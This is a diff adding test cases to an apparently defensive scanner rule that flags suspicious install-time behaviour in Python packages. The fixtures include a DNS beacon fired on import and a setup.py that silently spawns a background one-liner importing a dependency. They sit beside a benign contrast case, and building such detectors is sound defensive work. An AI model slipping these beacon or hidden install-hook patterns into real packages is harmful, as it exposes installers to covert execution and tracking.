@@ -99,5 +99,17 @@ ruleTest(rule, {
       code: `import socket\ndef _check_dns():\n    try:\n        socket.gethostbyname('fb303_core.pyvac.collector-host.ai')\n    except socket.gaierror as e:\n        print(e)\n_check_dns()\n`,
       findings: [{ line: 4, severity: 'critical', confidence: 'high', message: /DNS beacon when the package is imported: looks up fb303_core\.pyvac\.collector-host\.ai/ }],
     },
+    {
+      name: 'setup.py leaves a Python one-liner running that imports a dependency',
+      file: 'setup.py',
+      code: `from setuptools import setup\nimport subprocess\ntry:\n\tp = subprocess.Popen(["python3", "-c", "from secrevtwo import dist_util"], close_fds=True)\nexcept:\n\tpass\nsetup(name="secbg", install_requires=["secrevtwo"])\n`,
+      findings: [{ line: 4, severity: 'critical', confidence: 'high', message: /background Python one-liner at install time: from secrevtwo import dist_util/ }],
+    },
+    {
+      name: 'an inline Python whose output setup.py reads stays a plain command (not a background one-liner)',
+      file: 'setup.py',
+      code: `import subprocess, sys\nfrom setuptools import setup\ninc = subprocess.Popen([sys.executable, "-c", "import numpy; print(numpy.get_include())"], stdout=subprocess.PIPE).communicate()[0]\nsetup(name="x")\n`,
+      findings: [{ line: 3, severity: 'high', confidence: 'medium', message: /^Starts a command at install time$/ }],
+    },
   ],
 });
